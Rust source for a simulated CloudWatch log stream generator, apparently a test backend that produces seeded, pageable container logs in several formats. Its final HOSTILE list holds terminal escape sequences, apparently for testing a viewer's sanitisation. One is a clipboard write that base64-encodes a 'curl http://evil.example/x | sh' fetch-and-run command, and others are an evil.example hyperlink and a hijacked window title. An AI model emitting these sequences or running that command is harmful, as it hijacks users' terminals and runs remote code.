//! Generated CloudWatch log streams. A stream's lines are a pure function of its seed and
//! of time: simulated second `slot` after the container started holds a seeded number of
//! lines, so any position can be found again and paging never repeats or skips a line.

use chrono::{DateTime, Utc};
use fastrand::Rng;

use super::catalog::Kind;
use ondeck_core::CloudError;
use ondeck_core::model::{LogPage, LogQuery, RawLogEvent};

/// Our cap on one GetLogEvents page (CloudWatch allows 10 000).
pub(super) const MAX_PAGE: usize = 1000;
/// Slots hold fewer lines than this, so a position packs into one number.
const SLOT_CAPACITY: u64 = 1024;
const BURST_LINES: usize = 50;

/// How a container's last lines read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Ending {
    /// SIGTERM, then a clean exit.
    Graceful,
    /// Ignored SIGTERM and was killed.
    Killed,
    /// Exited with an error by itself.
    Crashed,
}

/// A place in a stream: line `index` of simulated second `slot`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Pos {
    slot: u64,
    index: u64,
}

impl Pos {
    pub const HEAD: Pos = Pos { slot: 0, index: 0 };

    pub fn encode(self) -> String {
        format!("f/{:020}", self.slot * SLOT_CAPACITY + self.index)
    }

    pub fn decode(token: &str) -> Result<Pos, CloudError> {
        let packed = token
            .strip_prefix("f/")
            .and_then(|digits| digits.parse::<u64>().ok())
            .ok_or_else(|| CloudError::Invalid {
                action: "logs:GetLogEvents".into(),
                detail: "The specified nextToken is invalid.".into(),
            })?;
        Ok(Pos {
            slot: packed / SLOT_CAPACITY,
            index: packed % SLOT_CAPACITY,
        })
    }

    fn next_slot(self) -> Pos {
        Pos {
            slot: self.slot + 1,
            index: 0,
        }
    }
}

/// Everything that decides one stream's content.
#[derive(Debug, Clone)]
pub(super) struct StreamSource {
    pub seed: u64,
    pub kind: Kind,
    pub container: &'static str,
    pub start_ms: i64,
    /// When the container exits, and how; lines stop before it.
    pub end: Option<(i64, Ending)>,
    pub env: Vec<(String, String)>,
    pub hostile: bool,
    /// Wall-clock milliseconds of one simulated second.
    pub slot_ms: f64,
}

impl StreamSource {
    /// One page of GetLogEvents at `now_ms`.
    pub fn page(&self, query: &LogQuery, now_ms: i64) -> Result<LogPage, CloudError> {
        let limit = match query.limit {
            None => MAX_PAGE,
            Some(limit) if limit >= 1 => (limit as usize).min(MAX_PAGE),
            Some(limit) => {
                return Err(CloudError::Invalid {
                    action: "logs:GetLogEvents".into(),
                    detail: format!("limit must be at least 1, got {limit}"),
                });
            }
        };
        if let Some(token) = &query.next_token {
            let (events, next) = self.read_forward(Pos::decode(token)?, now_ms, limit);
            return Ok(page(events, next));
        }
        let floor = query
            .start_time
            .map_or(Pos::HEAD, |start| self.first_at_or_after(start));
        if query.start_from_head {
            let (events, next) = self.read_forward(floor, now_ms, limit);
            Ok(page(events, next))
        } else {
            let frontier = self.frontier(now_ms).max(floor);
            Ok(page(self.read_backward(floor, frontier, limit), frontier))
        }
    }

    /// Up to `limit` lines from `from` that exist at `now_ms`, and where to read on.
    pub fn read_forward(&self, from: Pos, now_ms: i64, limit: usize) -> (Vec<RawLogEvent>, Pos) {
        let mut events = Vec::new();
        let Some(last) = self.last_slot(now_ms) else {
            return (events, from);
        };
        let mut pos = from;
        while pos.slot <= last {
            let lines = self.slot_events(pos.slot);
            while let Some(line) = lines.get(pos.index as usize) {
                if line.timestamp > now_ms || events.len() == limit {
                    return (events, pos);
                }
                events.push(line.clone());
                pos.index += 1;
            }
            pos = pos.next_slot();
        }
        (events, pos)
    }

    /// The position of the first line that does not exist yet at `now_ms`.
    pub fn frontier(&self, now_ms: i64) -> Pos {
        let Some(last) = self.last_slot(now_ms) else {
            return Pos::HEAD;
        };
        let lines = self.slot_events(last);
        match lines.iter().position(|line| line.timestamp > now_ms) {
            Some(index) => Pos {
                slot: last,
                index: index as u64,
            },
            None => Pos {
                slot: last,
                index: 0,
            }
            .next_slot(),
        }
    }

    /// The last `limit` lines in `[floor, frontier)`, oldest first.
    fn read_backward(&self, floor: Pos, frontier: Pos, limit: usize) -> Vec<RawLogEvent> {
        let mut newest_first = Vec::new();
        let mut slot = frontier.slot;
        loop {
            let lines = self.slot_events(slot);
            let high = if slot == frontier.slot {
                (frontier.index as usize).min(lines.len())
            } else {
                lines.len()
            };
            let low = if slot == floor.slot {
                (floor.index as usize).min(high)
            } else {
                0
            };
            for line in lines[low..high].iter().rev() {
                if newest_first.len() == limit {
                    newest_first.reverse();
                    return newest_first;
                }
                newest_first.push(line.clone());
            }
            if slot <= floor.slot {
                break;
            }
            slot -= 1;
        }
        newest_first.reverse();
        newest_first
    }

    fn first_at_or_after(&self, at_ms: i64) -> Pos {
        let slot = ((at_ms - self.start_ms) as f64 / self.slot_ms).floor();
        if slot < 0.0 {
            return Pos::HEAD;
        }
        let slot = slot as u64;
        let index = self
            .slot_events(slot)
            .iter()
            .take_while(|line| line.timestamp < at_ms)
            .count();
        Pos {
            slot,
            index: index as u64,
        }
    }

    /// Slots `0..end_slot` hold lines; the last ends before the container exits.
    fn end_slot(&self) -> Option<u64> {
        self.end.map(|(end_ms, _)| {
            (((end_ms - self.start_ms) as f64 / self.slot_ms).floor()).max(0.0) as u64
        })
    }

    /// The last slot that may hold lines at `now_ms`.
    fn last_slot(&self, now_ms: i64) -> Option<u64> {
        if now_ms < self.start_ms {
            return None;
        }
        let current = ((now_ms - self.start_ms) as f64 / self.slot_ms).floor() as u64;
        match self.end_slot() {
            Some(0) => None,
            Some(end) => Some(current.min(end - 1)),
            None => Some(current),
        }
    }

    /// The lines of one simulated second, in order.
    fn slot_events(&self, slot: u64) -> Vec<RawLogEvent> {
        let end = self.end_slot();
        if end.is_some_and(|end| slot >= end) {
            return Vec::new();
        }
        let slot_seed = mix(self.seed, slot);
        let mut rng = Rng::with_seed(slot_seed);
        let is_last = end == Some(slot + 1);
        let count = if is_last {
            farewell_len(self.kind, self.ending())
        } else if slot == 0 {
            startup_len(self.kind) + self.env.len()
        } else {
            normal_count(&mut rng)
        };
        let mut fractions: Vec<f64> = (0..count).map(|_| rng.f64()).collect();
        fractions.sort_by(f64::total_cmp);
        fractions
            .into_iter()
            .enumerate()
            .map(|(index, fraction)| {
                let timestamp = self.start_ms + ((slot as f64 + fraction) * self.slot_ms) as i64;
                let mut line_rng = Rng::with_seed(mix(slot_seed, index as u64 + 1));
                let at = DateTime::from_timestamp_millis(timestamp).unwrap_or_default();
                let message = if is_last {
                    farewell(self.kind, self.ending(), self.container, index, at)
                } else if slot == 0 {
                    startup(self.kind, self.container, &self.env, index, at)
                } else if count == BURST_LINES {
                    burst_line(self.kind, index, &mut line_rng, at)
                } else if self.hostile && line_rng.u8(0..8) == 0 {
                    hostile_line(&mut line_rng, at)
                } else {
                    line(self.kind, self.container, &mut line_rng, at)
                };
                RawLogEvent {
                    timestamp,
                    ingestion_time: timestamp + line_rng.i64(150..900),
                    message,
                }
            })
            .collect()
    }

    fn ending(&self) -> Ending {
        self.end.map_or(Ending::Graceful, |(_, ending)| ending)
    }
}

fn page(events: Vec<RawLogEvent>, next: Pos) -> LogPage {
    LogPage {
        events,
        next_forward_token: Some(next.encode()),
    }
}

/// About one line a second, with a rare burst of fifty.
fn normal_count(rng: &mut Rng) -> usize {
    if rng.u16(0..1000) < 3 {
        return BURST_LINES;
    }
    match rng.u8(0..20) {
        0..7 => 0,
        7..15 => 1,
        15..18 => 2,
        _ => 3,
    }
}

/// A stable seed for a stream from its task and container.
pub(super) fn stream_seed(task_id: &str, container: &str) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in task_id.bytes().chain([b'/']).chain(container.bytes()) {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0100_0000_01b3);
    }
    hash
}

/// SplitMix64 of two values: independent seeds per slot and per line.
fn mix(a: u64, b: u64) -> u64 {
    let mut z = a ^ b.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Level {
    Debug,
    Info,
    Warn,
    Error,
}

impl Level {
    fn pick(rng: &mut Rng) -> Level {
        match rng.u8(0..100) {
            0..8 => Level::Debug,
            8..84 => Level::Info,
            84..94 => Level::Warn,
            _ => Level::Error,
        }
    }

    fn upper(self) -> &'static str {
        match self {
            Level::Debug => "DEBUG",
            Level::Info => "INFO",
            Level::Warn => "WARN",
            Level::Error => "ERROR",
        }
    }

    fn lower(self) -> &'static str {
        match self {
            Level::Debug => "debug",
            Level::Info => "info",
            Level::Warn => "warn",
            Level::Error => "error",
        }
    }

    /// SGR colour as a tracing-style logger paints it.
    fn colour(self) -> &'static str {
        match self {
            Level::Debug => "\x1b[34m",
            Level::Info => "\x1b[32m",
            Level::Warn => "\x1b[33m",
            Level::Error => "\x1b[31m",
        }
    }
}

fn iso(at: DateTime<Utc>) -> String {
    at.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()
}

fn pick<'a>(rng: &mut Rng, items: &[&'a str]) -> &'a str {
    items[rng.usize(0..items.len())]
}

const PATHS: &[&str] = &[
    "/",
    "/healthz",
    "/api/orders",
    "/api/orders/4211",
    "/api/cart",
    "/api/users/me",
    "/static/app.3f9c1.js",
    "/static/app.3f9c1.css",
    "/api/search?q=lamp",
    "/login",
];
const API_ROUTES: &[&str] = &[
    "/v1/orders",
    "/v1/orders/:id",
    "/v1/cart",
    "/v1/users/:id",
    "/v1/search",
    "/v1/payments",
    "/v1/inventory/:sku",
];
const METHODS: &[&str] = &["GET", "GET", "GET", "POST", "PUT", "DELETE"];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 Safari/605.1.15",
    "curl/8.11.1",
    "ELB-HealthChecker/2.0",
    "okhttp/4.12.0",
];
const TABLES: &[&str] = &[
    "orders",
    "order_items",
    "users",
    "carts",
    "inventory",
    "payments",
];
const JOBS: &[&str] = &[
    "send-receipt",
    "resize-image",
    "sync-inventory",
    "expire-carts",
    "rebuild-search-index",
];
const BUCKETS: &[&str] = &[
    "s3://acme-raw/events",
    "s3://acme-raw/clicks",
    "s3://acme-raw/orders",
];

/// A line in the container's own voice: a native format, or a structured event written as
/// plain text, JSON or ANSI-coloured text.
fn line(kind: Kind, container: &str, rng: &mut Rng, at: DateTime<Utc>) -> String {
    let level = Level::pick(rng);
    match kind {
        Kind::Web if rng.u8(0..10) < 7 => access_log(rng, at),
        Kind::Db if rng.u8(0..10) < 7 => postgres(rng, level, at),
        Kind::Cache if rng.u8(0..10) < 8 => redis(rng, at),
        Kind::LogRouter if rng.u8(0..10) < 8 => fluent_bit(rng, level, at),
        _ => {
            let (msg, fields) = event(kind, container, level, rng);
            match rng.u8(0..10) {
                0..4 => json_line(level, at, &msg, &fields),
                4..7 => ansi_line(level, at, container, &msg, &fields),
                _ => plain_line(level, at, &msg, &fields),
            }
        }
    }
}

/// A structured event: a message and `key=value` fields (values already JSON literals).
fn event(
    kind: Kind,
    container: &str,
    level: Level,
    rng: &mut Rng,
) -> (String, Vec<(String, String)>) {
    let latency = match level {
        Level::Warn | Level::Error => rng.u32(800..5000),
        _ => rng.u32(2..180),
    };
    let request_id = format!("\"{:08x}\"", rng.u32(..));
    match (kind, level) {
        (Kind::Api | Kind::Web, Level::Error) => (
            "upstream request failed".into(),
            vec![
                ("route".into(), format!("\"{}\"", pick(rng, API_ROUTES))),
                ("error".into(), "\"context deadline exceeded\"".into()),
                ("latency_ms".into(), latency.to_string()),
                ("request_id".into(), request_id),
            ],
        ),
        (Kind::Api | Kind::Web, Level::Warn) => (
            "slow request".into(),
            vec![
                ("method".into(), format!("\"{}\"", pick(rng, METHODS))),
                ("route".into(), format!("\"{}\"", pick(rng, API_ROUTES))),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Api | Kind::Web, Level::Debug) => (
            "cache lookup".into(),
            vec![
                ("key".into(), format!("\"user:{}\"", rng.u32(1000..9999))),
                ("hit".into(), rng.bool().to_string()),
            ],
        ),
        (Kind::Api | Kind::Web, Level::Info) => {
            let status = pick(rng, &["200", "200", "200", "201", "204", "304", "404"]);
            (
                "request completed".into(),
                vec![
                    ("method".into(), format!("\"{}\"", pick(rng, METHODS))),
                    ("route".into(), format!("\"{}\"", pick(rng, API_ROUTES))),
                    ("status".into(), status.into()),
                    ("latency_ms".into(), latency.to_string()),
                    ("request_id".into(), request_id),
                ],
            )
        }
        (Kind::Worker, Level::Error) => (
            "job failed, will retry".into(),
            vec![
                ("job".into(), format!("\"{}\"", pick(rng, JOBS))),
                ("attempt".into(), rng.u8(1..5).to_string()),
                ("error".into(), "\"timeout waiting for lock\"".into()),
            ],
        ),
        (Kind::Worker, Level::Warn) => (
            "queue depth above threshold".into(),
            vec![("depth".into(), rng.u32(500..4000).to_string())],
        ),
        (Kind::Worker, _) => (
            "job completed".into(),
            vec![
                ("job".into(), format!("\"{}\"", pick(rng, JOBS))),
                ("id".into(), format!("\"{:012x}\"", rng.u64(..) >> 16)),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Pipeline, Level::Error) => (
            format!("{container}: record rejected"),
            vec![
                (
                    "reason".into(),
                    "\"schema mismatch: field `amount` is not a number\"".into(),
                ),
                ("offset".into(), rng.u64(10_000..9_000_000).to_string()),
            ],
        ),
        (Kind::Pipeline, Level::Warn) => (
            format!("{container}: batch retried"),
            vec![("source".into(), format!("\"{}\"", pick(rng, BUCKETS)))],
        ),
        (Kind::Pipeline, _) => (
            format!("{container}: batch processed"),
            vec![
                ("records".into(), rng.u32(100..5000).to_string()),
                ("source".into(), format!("\"{}\"", pick(rng, BUCKETS))),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Metrics, _) => (
            "scrape finished".into(),
            vec![
                ("series".into(), rng.u32(1200..1900).to_string()),
                ("latency_ms".into(), latency.to_string()),
            ],
        ),
        (Kind::Db | Kind::Cache | Kind::LogRouter, _) => (
            "health probe".into(),
            vec![("latency_ms".into(), latency.to_string())],
        ),
    }
}

fn json_line(level: Level, at: DateTime<Utc>, msg: &str, fields: &[(String, String)]) -> String {
    let mut out = format!(
        "{{\"level\":\"{}\",\"time\":\"{}\",\"msg\":{}",
        level.lower(),
        iso(at),
        serde_json::Value::from(msg)
    );
    for (key, value) in fields {
        out.push_str(&format!(",\"{key}\":{value}"));
    }
    out.push('}');
    out
}

fn ansi_line(
    level: Level,
    at: DateTime<Utc>,
    target: &str,
    msg: &str,
    fields: &[(String, String)],
) -> String {
    let mut out = format!(
        "\x1b[2m{}\x1b[0m {}{:>5}\x1b[0m \x1b[2m{target}:\x1b[0m {msg}",
        iso(at),
        level.colour(),
        level.upper()
    );
    for (key, value) in fields {
        out.push_str(&format!(" \x1b[3m{key}\x1b[0m={}", value.trim_matches('"')));
    }
    out
}

fn plain_line(level: Level, at: DateTime<Utc>, msg: &str, fields: &[(String, String)]) -> String {
    let mut out = format!("{} {:<5} {msg}", iso(at), level.upper());
    for (key, value) in fields {
        out.push_str(&format!(" {key}={value}"));
    }
    out
}

fn access_log(rng: &mut Rng, at: DateTime<Utc>) -> String {
    let status = pick(
        rng,
        &[
            "200", "200", "200", "200", "304", "301", "404", "499", "502",
        ],
    );
    format!(
        "10.0.{}.{} - - [{}] \"{} {} HTTP/1.1\" {status} {} \"-\" \"{}\" rt={:.3}",
        rng.u8(16..48),
        rng.u8(4..250),
        at.format("%d/%b/%Y:%H:%M:%S +0000"),
        pick(rng, METHODS),
        pick(rng, PATHS),
        rng.u32(0..48_000),
        pick(rng, AGENTS),
        rng.f64() * 0.4
    )
}

fn postgres(rng: &mut Rng, level: Level, at: DateTime<Utc>) -> String {
    let stamp = at.format("%Y-%m-%d %H:%M:%S%.3f UTC");
    let pid = rng.u16(60..400);
    match level {
        Level::Error => format!(
            "{stamp} [{pid}] ERROR:  duplicate key value violates unique constraint \"{}_pkey\"",
            pick(rng, TABLES)
        ),
        Level::Warn => format!("{stamp} [{pid}] WARNING:  there is no transaction in progress"),
        Level::Debug => format!(
            "{stamp} [{pid}] LOG:  duration: {:.3} ms  statement: SELECT * FROM {} WHERE id = $1",
            rng.f64() * 40.0,
            pick(rng, TABLES)
        ),
        Level::Info => match rng.u8(0..3) {
            0 => format!("{stamp} [{pid}] LOG:  checkpoint starting: time"),
            1 => format!(
                "{stamp} [{pid}] LOG:  checkpoint complete: wrote {} buffers ({:.1}%); 0 WAL file(s) added, 0 removed, 1 recycled; write={:.3} s, sync={:.3} s, total={:.3} s",
                rng.u16(3..900),
                rng.f64() * 5.0,
                rng.f64() * 30.0,
                rng.f64() * 0.05,
                rng.f64() * 30.0
            ),
            _ => format!(
                "{stamp} [{pid}] LOG:  automatic vacuum of table \"app.public.{}\": index scans: 1",
                pick(rng, TABLES)
            ),
        },
    }
}

fn redis(rng: &mut Rng, at: DateTime<Utc>) -> String {
    let stamp = at.format("%d %b %Y %H:%M:%S%.3f");
    match rng.u8(0..4) {
        0 => format!(
            "1:M {stamp} * {} changes in 60 seconds. Saving...",
            rng.u16(100..20_000)
        ),
        1 => format!(
            "1:M {stamp} * Background saving started by pid {}",
            rng.u16(20..900)
        ),
        2 => format!("{}:C {stamp} * DB saved on disk", rng.u16(20..900)),
        _ => format!("1:M {stamp} * Background saving terminated with success"),
    }
}

fn fluent_bit(rng: &mut Rng, level: Level, at: DateTime<Utc>) -> String {
    let stamp = at.format("%Y/%m/%d %H:%M:%S");
    match level {
        Level::Error => format!(
            "[{stamp}] [error] [output:cloudwatch_logs:cloudwatch_logs.0] PutLogEvents API responded with error='ThrottlingException'"
        ),
        Level::Warn => format!(
            "[{stamp}] [ warn] [engine] failed to flush chunk '1-{}.flb', retry in {} seconds: task_id={}, input=forward.0 > output=cloudwatch_logs.0",
            rng.u32(..),
            rng.u8(1..10),
            rng.u8(0..8)
        ),
        _ => format!(
            "[{stamp}] [ info] [output:cloudwatch_logs:cloudwatch_logs.0] Sent {} events to CloudWatch",
            rng.u16(1..400)
        ),
    }
}

/// Fifty lines at once: a stack trace from code, a traffic spike from servers.
fn burst_line(kind: Kind, index: usize, rng: &mut Rng, at: DateTime<Utc>) -> String {
    match kind {
        Kind::Api | Kind::Worker | Kind::Pipeline => {
            if index == 0 {
                return format!(
                    "{} ERROR unhandled rejection: TypeError: Cannot read properties of undefined (reading 'total')",
                    iso(at)
                );
            }
            const FRAMES: &[&str] = &[
                "    at computeTotals (/app/dist/orders/totals.js:41:27)",
                "    at OrderService.price (/app/dist/orders/service.js:118:22)",
                "    at async Promise.all (index 3)",
                "    at async handler (/app/dist/routes/orders.js:57:19)",
                "    at processTicksAndRejections (node:internal/process/task_queues:95:5)",
            ];
            FRAMES[index % FRAMES.len()].to_string()
        }
        Kind::Web => access_log(rng, at),
        _ => line(kind, "", rng, at),
    }
}

fn startup_len(kind: Kind) -> usize {
    startup_lines(kind, "").len()
}

fn startup_lines(kind: Kind, container: &str) -> Vec<String> {
    match kind {
        Kind::Web => vec![
            "/docker-entrypoint.sh: Configuration complete; ready for start up".into(),
            "nginx/1.27.3 (Debian) start worker processes".into(),
            "start worker process 29".into(),
        ],
        Kind::Api => vec![
            "> api@2.14.0 start".into(),
            "> node dist/server.js".into(),
            "{\"level\":\"info\",\"msg\":\"listening\",\"port\":3000}".into(),
        ],
        Kind::Db => vec![
            "LOG:  starting PostgreSQL 16.6 on aarch64-unknown-linux-gnu".into(),
            "LOG:  listening on IPv4 address \"0.0.0.0\", port 5432".into(),
            "LOG:  database system is ready to accept connections".into(),
        ],
        Kind::Cache => vec![
            "1:C Redis version=7.4.1, bits=64, commit=00000000, modified=0, pid=1, just started"
                .into(),
            "1:M * Ready to accept connections tcp".into(),
        ],
        Kind::Worker => vec!["worker starting concurrency=8 queue=jobs-default".into()],
        Kind::Pipeline => vec![format!("{container}: stage starting, batch size 500")],
        Kind::LogRouter => vec![
            "Fluent Bit v3.2.4".into(),
            "[ info] [input:forward:forward.0] listening on unix:///var/run/fluent.sock".into(),
        ],
        Kind::Metrics => vec!["Starting Prometheus exporter on :9090".into()],
    }
}

fn startup(
    kind: Kind,
    container: &str,
    env: &[(String, String)],
    index: usize,
    at: DateTime<Utc>,
) -> String {
    let lines = startup_lines(kind, container);
    match lines.get(index) {
        Some(line) => format!("{} {line}", iso(at)),
        None => {
            let (key, value) = &env[index - lines.len()];
            format!("{} INFO  config: {key}={value}", iso(at))
        }
    }
}

fn farewell_len(kind: Kind, ending: Ending) -> usize {
    farewell_lines(kind, ending, "").len()
}

fn farewell_lines(kind: Kind, ending: Ending, container: &str) -> Vec<String> {
    match (ending, kind) {
        (Ending::Crashed, _) => vec![
            "ERROR failed to connect to queue at redis://localhost:6379: connection refused".into(),
            "ERROR giving up after 5 attempts".into(),
            "panic: worker: queue unavailable".into(),
            "goroutine 1 [running]:".into(),
            "main.main()".into(),
            "\t/src/cmd/worker/main.go:87 +0x1c5".into(),
            "exit status 1".into(),
        ],
        (Ending::Killed, _) => vec![format!(
            "WARN  {container}: SIGTERM received while a batch is in flight; finishing it first"
        )],
        (Ending::Graceful, Kind::Web) => vec![
            "[notice] 1#1: signal 15 (SIGTERM) received from 1, exiting".into(),
            "[notice] 1#1: exit".into(),
        ],
        (Ending::Graceful, Kind::Api) => vec![
            "{\"level\":\"info\",\"msg\":\"SIGTERM received, draining connections\"}".into(),
            "{\"level\":\"info\",\"msg\":\"server closed\"}".into(),
        ],
        (Ending::Graceful, Kind::Db) => vec![
            "LOG:  received smart shutdown request".into(),
            "LOG:  database system is shut down".into(),
        ],
        (Ending::Graceful, Kind::Cache) => vec![
            "1:signal-handler Received SIGTERM scheduling shutdown...".into(),
            "1:M # Redis is now ready to exit, bye bye...".into(),
        ],
        (Ending::Graceful, _) => vec![
            "INFO  received SIGTERM, shutting down".into(),
            "INFO  shutdown complete".into(),
        ],
    }
}

fn farewell(
    kind: Kind,
    ending: Ending,
    container: &str,
    index: usize,
    at: DateTime<Utc>,
) -> String {
    let lines = farewell_lines(kind, ending, container);
    format!("{} {}", iso(at), lines[index])
}

/// Escape sequences a compromised or careless program could print, each inside an
/// otherwise ordinary line: clipboard write, title change, screen clear, cursor moves,
/// a device control string, an 8-bit CSI and a hyperlink.
const HOSTILE: &[&str] = &[
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07",
    "\x1b]0;you have been pwned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[10;40H",
    "\x1b[3A\x1b[2K",
    "\x1bP1$r0m\x1b\\",
    "\u{9b}2J",
    "\x1b]8;;http://evil.example/\x07click here\x1b]8;;\x07",
];

fn hostile_line(rng: &mut Rng, at: DateTime<Utc>) -> String {
    format!(
        "{} WARN  rejected header X-Debug: \"{}\" from 10.0.{}.{}",
        iso(at),
        pick(rng, HOSTILE),
        rng.u8(16..48),
        rng.u8(4..250)
    )
}
